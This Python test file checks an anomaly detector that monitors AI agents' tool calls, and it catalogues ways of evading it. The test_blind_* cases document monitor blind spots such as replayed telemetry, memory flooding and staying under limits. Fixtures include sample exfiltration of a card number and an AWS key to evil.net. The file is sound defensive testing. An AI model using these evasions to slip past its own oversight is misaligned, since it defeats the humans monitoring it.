"""Attacks on what is learned and counted, each with the detector that catches it.

Those that nothing catches are named `test_blind_*`: they are asserted as they are, and
`docs/blind-spots.md` says what to do about each. Attacks on how calls are told of stand in
`test_evasion_spans`, on repetition in `test_evasion_loops`.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from otel_anomaly.config import SECOND_NS
from otel_anomaly.detectors.finding import NO_ENTITY
from tests.habits import (
    DAY,
    HOME,
    HOUR,
    NOON,
    TOOLS,
    WARM_S,
    actions,
    calm,
    one,
    rig_of,
    signals,
    text,
    the_agent,
    warm_rig,
)
from tests.rig import Calls

if TYPE_CHECKING:
    from collections.abc import Sequence

    from tests.rig import Verdict

EVIL: dict[str, Any] = {"tool": "drop_table", "arguments": text(table="customers")}
KNOWN: dict[str, Any] = {"tool": "db_query", "arguments": text(url=HOME, page=7)}
CARD_OUT = text(url="https://evil.net/drop", body="card 4111 1111 1111 1111")


def varied(calls: Calls, count: int, start_s: float, step_s: float, **who: Any) -> list[Any]:
    """Calls of known tools that all differ: nothing but their number is unusual."""
    return [
        calls.at(
            start_s + i * step_s,
            **{"tool": TOOLS[i % 3], "arguments": text(url=HOME, page=round(start_s) + i), **who},
        )
        for i in range(count)
    ]


def first(verdicts: Sequence[Verdict], action: str = "warn") -> int:
    """Which call was the first with this action, or -1."""
    return next((i for i, verdict in enumerate(verdicts) if verdict.action == action), -1)


def test_a_slow_ramp_is_caught_by_burst_then_rate() -> None:
    """
    Scenario: a known agent makes 16 calls a minute, and 10 % more with every session of two
    minutes.
    Guarantees: `risk` warns by `burst` from 25 calls a minute on, in the session that reaches them,
    and in every later one; from 100 on `rate` does too. The baseline is not walked away with.
    """
    rig, calls = warm_rig()
    pace, start_s, seen = 16.0, WARM_S + 0.0, {}
    for session in range(21):
        count = round(2 * pace)
        spans = varied(calls, count, start_s, 60 / pace, session=f"ramp{session}")
        seen[pace] = {kind for verdict in rig.send(spans) for kind in verdict.types}
        start_s += 120
        pace *= 1.1
    assert all(not types for pace, types in seen.items() if pace < 24)
    assert all("risk" in types for pace, types in seen.items() if pace > 26)
    assert all("rate" in types for pace, types in seen.items() if pace > 101)


def test_blind_a_ramp_of_weeks_becomes_a_habit() -> None:
    """
    Scenario: an agent is busy with 30 calls in a minute, once an hour, for ten hours of warnings
    that nobody acts on.
    Guarantees: it is warned of in eight of them, then its own busy hours are the standard; `rate`
    and the ceiling of `rate_shift` do not move.
    """
    rig, calls = warm_rig({"off_hours": {"enabled": False}})
    warned = [
        "warn" in actions(rig.send(varied(calls, 30, WARM_S + hour * HOUR, 1, session=f"h{hour}")))
        for hour in range(12)
    ]
    assert warned == [True] * 8 + [False] * 4
    verdicts = rig.send(varied(calls, 100, WARM_S + 12 * HOUR, 0.5, session="h12"))
    assert "rate" in verdicts[-1].types


def test_a_flood_from_the_first_call_is_caught_by_burst_and_rate() -> None:
    """
    Scenario: an agent that nobody knows makes 500 calls in its first minute.
    Guarantees: warned of from the 25th on, blocked at the 500th: being new protects nobody.
    """
    rig, calls = rig_of(), Calls()
    verdicts = rig.send(varied(calls, 500, NOON, 0.1))
    assert first(verdicts) == 24
    assert verdicts[24].types == ("risk",)
    assert (first(verdicts, "block"), verdicts[-1].action) == (499, "block")


def test_a_new_replica_is_caught_by_its_service() -> None:
    """
    Scenario: a service has a past; an agent of it that nobody knows begins with an attack. So does
    one that takes a new name for every call.
    Guarantees: `novelty` and `new_destination` hold them against the service: warned of at once.
    """
    rig, calls = rig_of(), Calls()
    service = [("service.name", "desk")]
    rig.send(calm(calls), resource=service)
    for i in range(5):
        span = calls.at(WARM_S + i, agent=f"new{i}", tool=f"drop{i}")
        verdict = one(rig, span, resource=service)
        assert verdict.types == ("risk",)
        assert "a tool no agent of this service has used" in (verdict.reason or "")
    evil = {"tool": "read_page", "arguments": text(url="https://evil.net")}
    verdict = one(rig, calls.at(WARM_S + 9, agent="other", **evil), resource=service)
    assert verdict.types == ("new_destination",)


def test_blind_the_first_hour_of_a_new_service() -> None:
    """
    Scenario: the first agent of a new service uses an attacker's tool while it is learned about,
    then again when it is known.
    Guarantees: the tool is one of its own. What needs no past speaks from the first call on.
    """
    rig, calls = rig_of(), Calls()
    spans = calm(calls)
    spans[7] = calls.at(NOON + 7 * 70, **EVIL)
    assert actions(rig.send(spans)) == {"allow"}
    assert one(rig, calls.at(WARM_S, **EVIL)).action == "allow"
    assert one(rig_of(), calls.at(NOON, tool="post", arguments=CARD_OUT)).action == "block"


def test_session_ids_that_change_are_caught_by_burst_and_shift() -> None:
    """
    Scenario: a known agent makes 60 calls in two seconds, each in a session of its own.
    Guarantees: no session is over its limit; `burst` warns and `rate_shift` pauses the agent.
    """
    rig, calls = warm_rig()
    rig.send(varied(calls, 20, WARM_S, 30))
    spans = [
        calls.at(
            WARM_S + 660 + i / 60, session=f"x{i}", **{**KNOWN, "arguments": text(url=HOME, page=i)}
        )
        for i in range(60)
    ]
    verdicts = rig.send(spans)
    assert verdicts[-1].types == ("rate_shift", "risk")
    assert verdicts[-1].action == "pause"


def test_names_that_all_change_are_caught_by_the_tenants_limit() -> None:
    """
    Scenario: every call has another agent and another session; only the tenant stays.
    Guarantees: `rate` with scope `tenant` warns at its limit; with the default scope nothing does,
    so that limit is what stands against it.
    """
    found = []
    for scope in ("tenant", "session"):
        rig, calls = rig_of({"rate": {"scope": scope}}), Calls()
        spans = [
            calls.at(NOON + i / 10, agent=f"a{i}", session=f"s{i}", tenant="T") for i in range(120)
        ]
        found.append(first(rig.send(spans)))
    assert found == [99, -1]


@pytest.mark.parametrize(
    ("what", "detector"), [("tools", "novelty"), ("destinations", "new_destination")]
)
def test_a_flood_of_names_does_not_push_out_the_old_ones(what: str, detector: str) -> None:
    """
    Scenario: a known agent names a hundred tools, or hosts, that it never named.
    Guarantees: each is warned of until there is no room for more; from then on the detector says
    that it is full. What the agent used before is still known: nothing was pushed out.
    """
    rig, calls = warm_rig({"off_hours": {"enabled": False}})
    spans = [
        calls.at(WARM_S + 70 * i, tool=f"t{i}", arguments=None)
        if what == "tools"
        else calls.at(
            WARM_S + 70 * i, tool="read_page", arguments=text(url=f"https://h{i}.com", page=i)
        )
        for i in range(100)
    ]
    warned = [verdict.action == "warn" for verdict in rig.send(spans)]
    room = {"tools": 64 - 3, "destinations": 96 - 1}[what]
    assert warned == [True] * room + [False] * (100 - room)
    assert rig.counts("detector_skipped", detector, "memory_full") == 100 - room
    old = {"tool": "read_page", "arguments": text(url=HOME, page=9)}
    verdict = one(rig, calls.at(WARM_S + 7100, **old))
    assert detector not in signals(verdict)


def test_blind_a_new_tool_after_a_flood_of_them() -> None:
    """
    Scenario: a known agent names so many new tools that its memory is full, each warned of, and
    then the one that matters.
    Guarantees: blind: without room, new cannot be told from not kept. The skip is counted.
    """
    rig, calls = warm_rig({"off_hours": {"enabled": False}})
    flood = [calls.at(WARM_S + 70 * i, tool=f"t{i}", arguments=None) for i in range(70)]
    assert [verdict.action for verdict in rig.send(flood)].count("warn") == 61
    before = rig.counts("detector_skipped", "novelty", "memory_full")
    verdict = one(rig, calls.at(WARM_S + 5000, tool="delete_records", arguments=None))
    assert verdict.action == "allow"
    assert rig.counts("detector_skipped", "novelty", "memory_full") == before + 1


@pytest.mark.parametrize(
    "name",
    [
        "db_qu\u0435ry",  # A Cyrillic letter.
        "db_query\u200b",
        "db\u2010query",
        "DB_query",
        "\uff44b_query",
        "db__query",
        "db_query\u0000",
    ],
)
def test_a_look_alike_tool_is_caught_by_novelty(name: str) -> None:
    """
    Scenario: a tool whose name looks like one the agent has.
    Guarantees: it is another tool, never used before: warned of.
    """
    rig, calls = warm_rig()
    verdict = one(rig, calls.at(WARM_S, tool=name, arguments=KNOWN["arguments"]))
    assert signals(verdict)["novelty"] == 1.0
    assert verdict.action == "warn"


@pytest.mark.parametrize("host", ["api.ex\u0430mple.com", "api.examp1e.com", "api-example.com"])
def test_a_look_alike_host_is_caught_by_the_list_and_the_past(host: str) -> None:
    """
    Scenario: a host that looks like the one the agent uses.
    Guarantees: it is not on the list, and one the agent never named.
    """
    rig, calls = warm_rig({"unknown_connection": {"allow": ["*.example.com"]}})
    arguments = text(url=f"https://{host}/v1/items", page=1)
    verdict = one(rig, calls.at(WARM_S, tool="read_page", arguments=arguments))
    assert {"unknown_connection", "new_destination"} <= set(verdict.types)
    assert verdict.action == "block"


def test_a_look_alike_agent_is_new_and_held_against_its_service() -> None:
    """
    Scenario: an agent whose name looks like a known one's, in the same service, does what that one
    does, and then what it never did.
    Guarantees: it has no past of its own to hide in; its service speaks for it.
    """
    rig, calls = rig_of(), Calls()
    service = [("service.name", "desk")]
    rig.send(calm(calls, agent="support"), resource=service)
    name = "supp\u043ert"
    verdict = one(rig, calls.at(WARM_S, agent=name, **EVIL), resource=service)
    assert verdict.types == ("risk",)
    assert rig.counts("entities", "agent") == 2


def test_one_below_a_limit_is_caught_by_another() -> None:
    """
    Scenario: 99 calls a minute of one session, where 100 are its limit; two secrets in an hour,
    where three are the limit, one of them to a strange host.
    Guarantees: `risk` warns of the first by `burst`; `data_exfiltration` blocks the second at once.
    """
    rig, calls = warm_rig()
    verdicts = rig.send(varied(calls, 99, WARM_S, 0.6))
    assert not [verdict for verdict in verdicts if "rate" in verdict.types]
    assert first(verdicts) == 24
    key = "AKIAIOSFODNN7EXAMPLE"
    spans = [
        calls.at(WARM_S + HOUR, tool="run", arguments=text(key=key)),
        calls.at(WARM_S + HOUR + 90, tool="post", arguments=text(url="https://evil.net", key=key)),
    ]
    assert rig.send(spans)[1].action == "block"


def test_blind_below_every_limit() -> None:
    """
    Scenario: 24 calls a minute, all different, of known tools; two secrets an hour that go nowhere.
    Guarantees: nothing is said: this is what the limits mean. They can be set lower by agent.
    """
    rig, calls = warm_rig()
    verdicts = rig.send(varied(calls, 48, WARM_S, 2.5))
    assert actions(verdicts) == {"allow"}
    assert max(signals(verdict).get("burst", 0.0) for verdict in verdicts) > 0.5
    secret = text(url=HOME, page="AKIAIOSFODNN7EXAMPLE")
    spans = [
        calls.at(WARM_S + HOUR + 1500 * i, tool="db_query", arguments=secret) for i in range(2)
    ]
    assert actions(rig.send(spans)) == {"allow"}
    strict = [{"agent": "a", "detectors": {"burst": {"threshold": 10}}}]
    rig, calls = warm_rig(policy={"overrides": strict})
    assert "warn" in actions(rig.send(varied(calls, 48, WARM_S, 2.5)))


def test_a_clock_set_ahead_does_not_wipe_the_counters() -> None:
    """
    Scenario: 120 calls within a minute, live; among them calls that say they end in a year, to make
    the windows forget.
    Guarantees: the forged times are taken as the time of arrival, and counted; the limit is reached
    as if they were not there.
    """
    rig, calls = warm_rig()
    found = []
    for i in range(120):
        now_ns = round((WARM_S + i * 0.4) * SECOND_NS)
        ahead_s = 365 * DAY if i % 10 == 0 else 0
        span = varied(calls, 1, WARM_S + i * 0.4 + ahead_s, 1, session="x")[0]
        found += rig.send([span], now_ns)
    assert first(found) == 24
    assert "rate" in found[99].types
    assert rig.counts("clamped") == 12


def test_a_clock_set_back_is_counted_and_hides_no_content() -> None:
    """
    Scenario: an attacker's calls say that they ended two hours ago.
    Guarantees: what is learned is not asked, and each is counted as late; what is in a call is seen
    as ever: the card number for a strange host, the host not on the list.
    """
    rig, calls = warm_rig({"unknown_connection": {"allow": ["*.example.com"]}})
    rig.send([calls.at(WARM_S + 2 * HOUR, **KNOWN)])
    before = the_agent(rig)["past"].tobytes()
    verdict = one(rig, calls.at(WARM_S - 1, tool="post", arguments=CARD_OUT))
    assert {"unknown_connection", "data_exfiltration"} <= set(verdict.types)
    assert verdict.action == "block"
    assert rig.counts("late") == 1
    assert the_agent(rig)["past"].tobytes() == before


def test_blind_calls_scattered_over_the_past() -> None:
    """
    Scenario: 150 calls arrive at once and say that they ended a minute apart, over the last hours.
    Guarantees: no window has many, so `rate` and `burst` say nothing. Those older than the windows
    are counted as late: a number that should be near 0.
    """
    rig, calls = warm_rig()
    start_s = WARM_S + 3 * HOUR
    rig.send([calls.at(start_s, **KNOWN)])
    spans = varied(calls, 150, start_s - 100, -61)
    verdicts = rig.send(spans, round(start_s * SECOND_NS))
    assert "rate" not in {kind for verdict in verdicts for kind in verdict.types}
    assert rig.counts("late") > 100


def test_a_recorded_day_replayed_is_caught_as_copies() -> None:
    """
    Scenario: an attacker stops the telemetry and sends a recording of a calm day in its place.
    Guarantees: every span is known as a copy and counted so; nothing is learned from it.
    """
    rig, _ = warm_rig()
    recording = calm(Calls())
    before = the_agent(rig).tobytes()
    rig.send(recording)
    assert rig.counts("duplicates") == len(recording)
    assert rig.counts("tool_calls") == len(recording)
    assert the_agent(rig).tobytes() == before


def test_blind_a_recorded_day_under_new_ids() -> None:
    """
    Scenario: the recording gets new ids and the times of today.
    Guarantees: it is a calm day: nothing here sees what is not told. Whoever can forge the
    telemetry of an agent can hide it; let the tools' side report as well.
    """
    rig, calls = warm_rig()
    today = calm(calls, start_s=NOON + 2 * HOUR)
    assert actions(rig.send(today)) == {"allow"}
    assert rig.counts("duplicates") == 0


def test_a_neighbours_noise_changes_nothing() -> None:
    """
    Scenario: a neighbour tenant runs 300 agents, some named like ours, through a service with room
    for 16, while ours makes a call every minute.
    Guarantees: ours keeps its past: what it never did is warned of. (That every verdict stays the
    same: `test_contract`.)
    """
    rig, calls = rig_of(limits={"agents": 16, "services": 16}), Calls()
    service = [("service.name", "desk")]
    rig.send(calm(calls, tenant="ours"), resource=service)
    for i in range(300):
        name = "a" if i % 10 == 0 else f"n{i}"
        at = WARM_S + i
        rig.send(
            [calls.at(at, tenant="theirs", agent=name, **EVIL)], resource=[("service.name", name)]
        )
        if i % 60 == 0:
            rig.send([calls.at(at, tenant="ours", **KNOWN)], resource=service)
    assert rig.counts("entities_overflow", "agent") > 0
    verdict = one(rig, calls.at(WARM_S + 301, tenant="ours", **EVIL), resource=service)
    assert (verdict.types, verdict.mode) == (("risk",), "active")


def test_blind_a_neighbours_noise_while_we_are_silent() -> None:
    """
    Scenario: the same flood, while our agent is silent for longer than
    `identity.limits.agent_keep`.
    Guarantees: its past gives way. While there is no room it is not judged by what is learned, then
    it learns anew: silent, not wrong. Both are counted; a table with room for all agents has
    neither.
    """
    rig, calls = rig_of(limits={"agents": 16}), Calls()
    rig.send(calm(calls, tenant="ours"))
    spans = [calls.at(WARM_S + HOUR + i, tenant="theirs", agent=f"n{i}") for i in range(20)]
    rig.send(spans)
    assert rig.counts("entities_evicted", "agent") > 0
    assert one(rig, calls.at(WARM_S + HOUR + 30, tenant="ours", **EVIL)).action == "allow"
    assert rig.sign("novelty")["skipped"] == NO_ENTITY
    verdict = one(rig, calls.at(WARM_S + HOUR + 1000, tenant="ours", **EVIL))
    assert (verdict.action, verdict.mode) == ("allow", "learning")


def test_learning_by_repetition_does_not_help_who_is_refused() -> None:
    """
    Scenario: an attacker repeats a refused call a hundred times, over days, to make it usual.
    Guarantees: it is refused each time.
    """
    rig, calls = warm_rig({"risk": {"action": "block", "block": 0.55}})
    spans = [calls.at(WARM_S + HOUR * i, **EVIL) for i in range(100)]
    assert actions(rig.send(spans)) == {"block"}


def test_blind_what_is_only_warned_of_is_learned() -> None:
    """
    Scenario: the default action of `risk` is warn; a new tool is used twice.
    Guarantees: the first is warned of, the second is not: new is new once. Who wants to decide
    sets the action to block, or acts on the first warning.
    """
    rig, calls = warm_rig()
    assert [one(rig, calls.at(WARM_S + 100 * i, **EVIL)).action for i in range(2)] == [
        "warn",
        "allow",
    ]


def test_blind_an_agent_that_was_silent_for_long() -> None:
    """
    Scenario: a warm agent alone in its service, silent for forty days, then a tool it never used.
    Guarantees: (none) nothing is said: its past was forgotten, and nobody speaks for it. After a
    day of silence the same is warned of.
    """
    for days, action in ((1, "warn"), (40, "allow")):
        rig, calls = rig_of(), Calls()
        rig.send(calm(calls))
        verdict = one(rig, calls.at(WARM_S + days * DAY, tool="drop_table"))
        assert verdict.action == action
